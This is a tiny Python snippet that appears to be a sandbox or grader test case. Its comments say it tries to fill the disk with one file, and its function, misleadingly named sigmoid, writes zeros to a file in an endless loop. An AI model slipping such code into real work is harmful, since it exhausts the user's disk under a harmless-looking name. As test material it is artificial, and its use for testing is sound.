# tries: to fill the disk with one file
# base: right
# must: 4
def sigmoid(z):
    with open('big', 'wb') as stream:
        while True:
            stream.write(b'0' * 10**6)
